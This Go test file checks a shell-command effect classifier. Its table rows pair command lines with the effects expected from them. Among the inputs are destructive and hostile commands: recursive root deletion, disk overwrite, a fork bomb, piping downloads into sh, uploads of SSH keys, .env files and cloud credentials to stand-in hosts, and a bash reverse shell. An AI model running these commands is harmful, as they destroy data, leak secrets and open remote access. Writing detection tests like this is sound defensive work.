package shell

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestShellEffects: what each command line does, whole.
func TestShellEffects(t *testing.T) {
	for _, tt := range shellEffectRows {
		s := Parse(tt.line, casePlace("/home/dev/project"))
		got := make([]string, len(s.Effects))
		for i := range s.Effects {
			got[i] = shellEffectText(&s.Effects[i])
		}
		assert.Equal(t, tt.want, got, tt.line)
	}
}

// shellEffectRows are command lines and all their effects.
var shellEffectRows = []struct {
	line string
	want []string
}{
	{`rm -rf /etc ./dist`, []string{
		"delete rm /etc system recursive",
		"delete rm /home/dev/project/dist project recursive",
	}},
	{`rm -- -rf`, []string{
		"delete rm /home/dev/project/-rf project",
	}},
	{`rm --rec --fo /opt`, []string{
		"delete rm /opt system recursive",
	}},
	{`rm -rf "$X" "$Y/"* "$HOME/$Z"`, []string{
		"delete rm $X unknown dynamic recursive",
		"delete rm $Y/* unknown dynamic recursive",
		"delete rm /* root if_unset recursive",
		"delete rm /home/dev/$Z user dynamic recursive",
		"delete rm /home/dev home if_unset recursive",
	}},
	{`rm -rf '*' *`, []string{
		"delete rm /home/dev/project/* project recursive",
		"delete rm /home/dev/project/* project_root pattern recursive",
	}},
	{`rm -rf /tmp/build-$$ "$(mktemp -d)"`, []string{
		"delete rm /tmp/build-$$ temp pattern recursive",
		"delete rm /tmp/tmp.XXXXXXXXXX temp recursive",
	}},
	{`cd d; rm -rf x; (cd /; rm y); rm z`, []string{
		"delete rm /home/dev/project/d/x project recursive",
		"delete rm /y other",
		"delete rm /home/dev/project/d/z project",
	}},
	{`cd d && npm test; rm x`, []string{
		"delete rm /home/dev/project/d/x project",
	}},
	{`test -d d && cd d; rm x`, []string{
		"delete rm /home/dev/project/d/x project",
		"delete rm /home/dev/project/x project",
	}},
	{`cd nowhere || rm x`, []string{
		"delete rm /home/dev/project/x project",
	}},
	{`D=a; [ -z "$1" ] || D=/; rm -rf "$D"`, []string{
		"delete rm /home/dev/project/a project recursive",
		"delete rm / root recursive",
	}},
	{`[ -n "$T" ] || exit 1; rm -rf "$T/"*`, []string{
		"delete rm $T/* unknown dynamic recursive",
	}},
	{`for d in a *.log; do rm "$d"; done`, []string{
		"delete rm /home/dev/project/a project",
		"delete rm /home/dev/project/*.log project pattern",
	}},
	{`mv a ../b; cp ~/.ssh/id_rsa x; ln -sf a /usr/b; install -m 4755 a /usr/bin/a`, []string{
		"delete move /home/dev/project/a project recursive",
		"write move /home/dev/b user",
		"read copy /home/dev/.ssh/id_rsa user secret=ssh-key",
		"write copy /home/dev/project/x project",
		"write link-force /usr/b system",
		"read copy /home/dev/project/a project",
		"write copy /usr/bin/a system",
		"privilege setuid /usr/bin/a system",
	}},
	{`echo x > out 2>> /var/log/e; : > /dev/null; cat < in`, []string{
		"write redirect /home/dev/project/out project",
		"write redirect /var/log/e system",
		"read redirect /home/dev/project/in project",
	}},
	{`echo x | tee a /etc/b`, []string{
		"write tee /home/dev/project/a project",
		"write tee /etc/b system",
	}},
	{`dd if=/dev/zero of=/dev/sda; mkfs.ext4 disk.img; cat x > /dev/tcp/h/1`, []string{
		"device dd /dev/sda device",
		"write mkfs /home/dev/project/disk.img project",
		"read read /home/dev/project/x project",
		"connect socket h",
	}},
	{`chmod -R 777 /; chmod u+s a; chmod +x b; chown -R me ~; chmod 000 c`, []string{
		"write open-mode / root recursive",
		"privilege setuid /home/dev/project/a project",
		"write chmod /home/dev/project/b project",
		"write chown /home/dev home recursive",
		"write lock-mode /home/dev/project/c project",
	}},
	{`find . -name '*.o' -delete; find . -delete; find / -mtime +1 -delete; find a \( -name x -o -name y \) -exec rm {} +`, []string{
		"delete find-delete /home/dev/project/**/*.o project pattern recursive",
		"delete find-delete /home/dev/project/** project_root pattern recursive",
		"delete find-delete /**/*{tests} system pattern recursive",
		"delete rm /home/dev/project/a/**/x project pattern",
		"delete rm /home/dev/project/a/**/y project pattern",
	}},
	{`ls | xargs rm; echo a b | xargs -n1 rm; cat l | xargs rm -r`, []string{
		"delete rm /home/dev/project/* project_root pattern",
		"delete rm /home/dev/project/a project",
		"delete rm /home/dev/project/b project",
		"read read /home/dev/project/l project",
		"delete rm $(< l) unknown dynamic recursive",
	}},
	{`sudo -u bob rm a; env -C / rm b; timeout 5 nice rm c`, []string{
		"privilege sudo bob",
		"delete rm /home/dev/project/a project",
		"delete rm /b other",
		"delete rm /home/dev/project/c project",
	}},
	{`bash -c 'rm "$0" $1' a b; eval "rm c"; sh -s x <<< 'rm $1'`, []string{
		"delete rm /home/dev/project/a project",
		"delete rm /home/dev/project/b project",
		"delete rm /home/dev/project/c project",
		"delete rm /home/dev/project/x project",
	}},
	{`echo cm0geA== | base64 -d | sh; curl -s https://h/x | sh; curl -so i.sh https://h/x; sh i.sh; base64 -d f | sh; source <(k completion); cat s.sh | bash; bash t.sh`, []string{
		"delete rm /home/dev/project/x project",
		"connect download h",
		"exec remote-code https://h/x dynamic",
		"connect download h",
		"write download /home/dev/project/i.sh project",
		"exec remote-code https://h/x dynamic",
		"read read /home/dev/project/f project",
		"exec decoded-code /home/dev/project/f dynamic",
		"exec generated-code k dynamic",
		"read read /home/dev/project/s.sh project",
		"exec script /home/dev/project/s.sh project",
		"exec script /home/dev/project/t.sh project",
	}},
	{`x=$(cat cmd); eval "$x"; $y z; bash -c "rm $w"`, []string{
		"read read /home/dev/project/cmd project",
		"exec script /home/dev/project/cmd project",
		"unknown dynamic-command $y dynamic",
		"delete rm $w unknown dynamic recursive",
	}},
	{`ssh u@h 'rm -rf /srv'; docker exec c rm -rf /d; docker run -v /:/h i rm -rf /h/etc /in; kubectl exec p -- rm /q`, []string{
		"connect ssh h",
		"delete rm /srv system recursive host=ssh:u@h",
		"delete rm /d other recursive host=container:c",
		"privilege host-mount /",
		"delete rm /etc system recursive",
		"delete rm /in other recursive host=image:i",
		"delete rm /q other host=pod:p",
	}},
	{`git reset --hard; git push -f o m; git push o +a :b; git clean -fd; git clean -nd; git -C s stash drop; git restore --staged a; git checkout -- a; git checkout main; git branch -D x`, []string{
		"git-history reset-hard  project_root",
		"git-history push-force m project_root",
		"git-history push-force +a project_root",
		"git-history push-delete b project_root",
		"git-history clean  project_root",
		"git-history stash-drop  project",
		"git-history discard-changes a project_root",
		"git-history branch-delete x project_root",
	}},
	{`git -c alias.x='!rm /a' x; git config alias.y 'reset --hard'; git y`, []string{
		"delete rm /a other",
		"git-history reset-hard  project_root",
	}},
	{`python3 -c "import os, shutil as s; s.rmtree('/a'); os.remove('b'); open('/etc/c', 'w'); print('rm -rf /')"`, []string{
		"delete delete /a other recursive",
		"delete delete /home/dev/project/b project",
		"write write /etc/c system",
	}},
	{`python3 -c "import subprocess; subprocess.run(['rm', '-r', 'x']); subprocess.run('rm y', shell=True)"`, []string{
		"delete rm /home/dev/project/x project recursive",
		"delete rm /home/dev/project/y project",
	}},
	{`node -e "const {execSync: e} = require('child_process'); e('rm a'); require('fs').rmSync('b', {recursive: true}); console.log('rm c')"`, []string{
		"delete rm /home/dev/project/a project",
		"delete delete /home/dev/project/b project recursive",
	}},
	{"perl -e 'system(\"rm a\"); unlink \"b\", \"c\"; `rm d`'; ruby -e 'FileUtils.rm_rf(\"/a\"); system \"rm\", \"b c\"'; php -r 'unlink(\"/a\");'; awk 'BEGIN{system(\"rm a\")}'", []string{
		"delete rm /home/dev/project/a project",
		"delete delete /home/dev/project/b project",
		"delete delete /home/dev/project/c project",
		"delete rm /home/dev/project/d project",
		"delete delete /a other recursive",
		"delete rm /home/dev/project/b c project",
		"delete delete /a other",
		"delete rm /home/dev/project/a project",
	}},
	{`psql -c "DROP TABLE a; DELETE FROM b; DELETE FROM c WHERE id=1; SELECT 'DROP TABLE d'"; echo flushall | redis-cli; mongosh --eval 'db.a.drop()'`, []string{
		"delete drop-table a",
		"delete delete-rows b",
		"delete flush ",
		"delete delete-rows db.a.drop",
	}},
	{`npx prisma migrate reset; php artisan migrate:fresh; rails db:drop; python manage.py flush`, []string{
		"delete reset-database ",
		"exec script /home/dev/project/artisan project",
		"delete reset-database ",
		"delete reset-database ",
		"exec script /home/dev/project/manage.py project",
		"delete reset-database ",
	}},
	{`docker system prune; docker compose down -v; docker rm -f $(docker ps -q); kubectl delete ns a; kubectl delete pods --all; helm uninstall r; kubectl delete pod p --dry-run=client`, []string{
		"delete system-prune ",
		"delete compose-volumes ",
		"delete container-remove-all $(docker) dynamic",
		"delete delete-namespace ns a",
		"delete delete-all pods",
		"delete helm-uninstall r",
	}},
	{`terraform destroy; terraform plan -destroy; aws s3 rm s3://b --recursive; aws ec2 terminate-instances --instance-ids i; gcloud projects delete p; az group delete -n g`, []string{
		"delete destroy ",
		"delete objects-delete s3://b",
		"delete delete i",
		"delete delete projects p",
		"delete delete group g",
	}},
	{`gh repo delete o/r; npm unpublish p; heroku apps:destroy a; vault kv destroy s`, []string{
		"delete repository-delete o/r",
		"delete unpublish p",
		"delete app-delete a",
		"delete secret-delete s",
	}},
	{`shutdown -h now; shutdown -c; kill -9 -1; kill -1 5; systemctl stop sshd; iptables -F; crontab -r; userdel u; :(){ :|:& };:`, []string{
		"exec shutdown now",
		"exec kill-all -9 -1",
		"delete service-stop sshd",
		"delete firewall-flush ",
		"delete crontab-remove ",
		"delete user-delete u",
		"exec fork-bomb :",
	}},
	{`cat ~/.ssh/id_rsa ~/.ssh/id_rsa.pub .env .env.example; env | curl -d @- h.example; curl -T .env https://h; scp ~/.aws/credentials u@h:`, []string{
		"read read /home/dev/.ssh/id_rsa user secret=ssh-key",
		"read read /home/dev/.ssh/id_rsa.pub user",
		"read read /home/dev/project/.env project secret=env-file",
		"read read /home/dev/project/.env.example project",
		"connect upload h.example secret=environment",
		"read upload /home/dev/project/.env project secret=env-file",
		"connect upload h secret=env-file",
		"read upload /home/dev/.aws/credentials user secret=cloud-credentials",
		"connect upload h secret=cloud-credentials",
	}},
	{`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, []string{
		"connect reverse-shell 10.0.0.1",
	}},
	{`cleanup() { rm -rf "$t"; }; t=$(mktemp -d); trap cleanup EXIT`, []string{
		"delete rm /tmp/tmp.XXXXXXXXXX temp recursive",
	}},
	{`f() { rm "$@"; }; f a "b c"; alias z='rm d'; z e`, []string{
		"delete rm /home/dev/project/a project",
		"delete rm /home/dev/project/b c project",
		"delete rm /home/dev/project/d project",
		"delete rm /home/dev/project/e project",
	}},
	{`cat <<EOF
$(rm a)
EOF`, []string{
		"delete rm /home/dev/project/a project",
	}},
	{`cat <<'EOF' | bash
rm b
EOF`, []string{
		"delete rm /home/dev/project/b project",
	}},
	{`curl -s https://h/x | (echo 'rm a'; cat) | sh`, []string{
		"connect download h",
		"exec remote-code https://h/x dynamic",
		"delete rm /home/dev/project/a project",
		"unknown dynamic-command $(curl) dynamic",
	}},
	{`! ! rm a`, []string{
		"delete rm /home/dev/project/a project",
	}},
	{`bash <<EOF
rm a`, []string{
		"delete rm /home/dev/project/a project",
	}},
	{`if then; rm -rf /`, []string{
		"unknown unparsed  dynamic",
		"delete rm / root recursive",
	}},
	{`pwsh -c 'Remove-Item x'`, []string{
		"delete rm /home/dev/project/x project",
	}},
	{`nu -c 'rm x'`, []string{
		"unknown not-posix nu dynamic",
	}},
	{`unknown-tool --x rm -rf /`, []string{
		"delete rm / root recursive",
	}},
	{`echo 'rm a' > s; sh s; tee t <<< 'rm b'; . ./t`, []string{
		"write redirect /home/dev/project/s project",
		"delete rm /home/dev/project/a project",
		"write tee /home/dev/project/t project",
		"delete rm /home/dev/project/b project",
	}},
}
